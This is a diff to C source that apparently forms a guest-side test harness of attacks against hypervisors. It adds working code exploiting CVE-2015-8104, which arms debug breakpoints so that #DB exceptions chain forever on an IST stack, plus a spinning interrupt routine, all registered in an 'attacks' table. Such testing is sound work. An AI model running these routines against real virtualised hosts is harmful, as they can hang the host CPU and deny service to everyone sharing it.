@@ -215,7 +215,77 @@ static void clear_pg(void)
     __asm__ volatile("ud2");
 }
 
+/*
+ * #DB whose delivery makes the next #DB (CVE-2015-8104): the handler's stack is that of an IST, so it never runs out,
+ * and a breakpoint is on what the delivery writes there, or on the handler's first instruction. A CPU that were not
+ * made to exit at each would never come out of its microcode. SDM 3B 17.2; APM 2 13.1.1.
+ */
+#define TSS_SELECTOR 0x18u
+#define IST_GATE_1 1u
+#define DR7_DATA_0 0x000d0402ULL /* breakpoint 0 on: writes of 4 bytes */
+#define DR7_CODE_0 0x00000402ULL /* breakpoint 0 on: execution */
+
+static uint32_t db_tss[26] __attribute__((aligned(16)));
+static uint8_t db_stack[4096] __attribute__((aligned(16)));
+extern const char db_handler[];
+__asm__("db_handler: iretq");
+
+static void debug_handler_with_own_stack(void)
+{
+    static uint64_t gdt[5];
+    uint64_t base = (uintptr_t)db_tss;
+    uint64_t top = (uintptr_t)(db_stack + sizeof(db_stack));
+    struct pointer old;
+    struct pointer idt;
+    volatile uint16_t *gate;
+
+    __asm__ volatile("sgdt %0; sidt %1" : "=m"(old), "=m"(idt));
+    for (uint32_t i = 0; i < 3; i++) {
+        gdt[i] = ((const volatile uint64_t *)(uintptr_t)old.base)[i];
+    }
+    gdt[3] = (sizeof(db_tss) - 1) | (base & 0xffffff) << 16 | 0x89ULL << 40 | (base >> 24 & 0xff) << 56;
+    gdt[4] = base >> 32;
+    db_tss[9] = (uint32_t)top; /* IST1. SDM 3A 7.7, figure 7-11 */
+    db_tss[10] = (uint32_t)(top >> 32);
+    old = (struct pointer){sizeof(gdt) - 1, (uintptr_t)gdt};
+    __asm__ volatile("lgdt %0; ltr %w1" : : "m"(old), "r"(TSS_SELECTOR));
+    gate = (volatile uint16_t *)(uintptr_t)(idt.base + 16);
+    gate[0] = (uint16_t)(uintptr_t)db_handler;
+    gate[3] = (uint16_t)((uintptr_t)db_handler >> 16);
+    gate[2] = (uint16_t)(gate[2] | IST_GATE_1);
+}
+
+static void endless_db_by_data(void)
+{
+    debug_handler_with_own_stack();
+    __asm__ volatile("movq %0, %%dr0; movq %1, %%dr7; .byte 0xf1"
+                     :
+                     : "r"((uintptr_t)(db_stack + sizeof(db_stack) - 8)), "r"(DR7_DATA_0)
+                     : "memory");
+}
+
+static void endless_db_by_code(void)
+{
+    debug_handler_with_own_stack();
+    __asm__ volatile("movq %0, %%dr0; movq %1, %%dr7; .byte 0xf1"
+                     :
+                     : "r"((uintptr_t)db_handler), "r"(DR7_CODE_0)
+                     : "memory");
+}
+
+/* With interrupts on, which nothing sends: Bochs keeps the host's from a guest that has them off and makes no exit. */
+static void spin(void)
+{
+    interrupts_on();
+    for (;;) {
+        __asm__ volatile("pause");
+    }
+}
+
 static const struct attack attacks[] = {
+    {"endless-db-data", endless_db_by_data},
+    {"endless-db-code", endless_db_by_code},
+    {"spin", spin},
     {"triple-fault", triple_fault},
     {"idt-in-device", idt_in_device},
     {"idt-fault", idt_in_device_fault},
